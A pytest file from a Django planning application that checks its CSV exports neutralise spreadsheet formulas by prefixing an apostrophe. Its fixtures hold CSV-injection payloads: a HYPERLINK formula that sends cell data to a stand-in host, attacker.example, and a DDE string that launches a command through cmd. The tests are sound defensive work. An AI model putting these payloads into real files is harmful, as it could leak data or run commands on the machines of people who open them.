"""Text a spreadsheet could run as a formula comes out of every CSV export as text (decision 0025).

The monitoring exports and the panel summary have their own tests of this (test_monitoring_pages.py,
test_panel_summary.py); here are the open data files, each plan's plan.csv and the department's register.
"""

import csv
import io

import pytest

from tests.conftest import THEME_TEXT, publish_through_the_route

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("reference_data")]

SLUG = "productivity-plan-2024"
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
COMMAND = "-2+3+cmd|' /C calc'!A0"
SUM = "+SUM(A1:A9)"
AT = "@SUM(1+1)"


@pytest.fixture
def formula_plan(plan_return, dorset, dorset_author, dorset_clerk, dorset_chief_executive):
    from django.utils import timezone

    from plans.models import BarrierCategory
    from plans.services import add_barrier, add_commitment, save_draft, start_draft

    dorset_chief_executive.first_name = AT
    dorset_chief_executive.save()
    draft = start_draft(council=dorset, return_definition=plan_return, actor=dorset_author)
    add_barrier(
        draft=draft,
        category=BarrierCategory.objects.get(slug="funding-certainty"),
        description=HYPERLINK,
        ask=SUM,
        actor=dorset_author,
    )
    add_commitment(
        draft=draft,
        action=COMMAND,
        owner="Director of Place",
        due_on=timezone.localdate(),
        measure="Depots open",
        baseline="-2",
        target="3",
        actor=dorset_author,
    )
    draft.refresh_from_db()
    bodies = {**THEME_TEXT, 1: "=1+1 " + THEME_TEXT[1]}
    draft = save_draft(draft=draft, bodies=bodies, based_on_revision=draft.revision, actor=dorset_author)
    return publish_through_the_route(
        draft, author=dorset_author, clerk=dorset_clerk, chief_executive=dorset_chief_executive
    )


def cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return [value for row in csv.reader(io.StringIO(response.content.decode("utf-8"))) for value in row]


def assert_neutralised(values: list[str]) -> None:
    for value in values:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_open_data_files_carry_formula_shaped_text_as_text(client, formula_plan):
    barriers = cells(client.get(f"/open-data/{SLUG}/barriers.csv"))
    assert "'" + HYPERLINK in barriers and "'" + SUM in barriers
    commitments = cells(client.get(f"/open-data/{SLUG}/commitments.csv"))
    assert "'" + COMMAND in commitments
    assert "'-2" in commitments  # a baseline the council typed is text, so it is escaped like any text
    themes = cells(client.get(f"/open-data/{SLUG}/themes.csv"))
    assert any(value.startswith("'=1+1 ") for value in themes)
    for values in (barriers, commitments, themes, cells(client.get(f"/open-data/{SLUG}/register.csv"))):
        assert_neutralised(values)


def test_a_plans_csv_carries_formula_shaped_text_as_text(client, formula_plan):
    values = cells(client.get(f"/councils/{formula_plan.council.gss_code}/plans/{SLUG}/plan.csv"))
    assert {"'" + HYPERLINK, "'" + SUM, "'" + COMMAND} <= set(values)
    assert_neutralised(values)


def test_the_department_register_export_carries_formula_shaped_text_as_text(client, formula_plan, analyst):
    client.force_login(analyst)
    values = cells(client.get(f"/department/returns/{SLUG}/?format=csv"))
    assert any(value.startswith("'" + AT) for value in values)
    assert_neutralised(values)
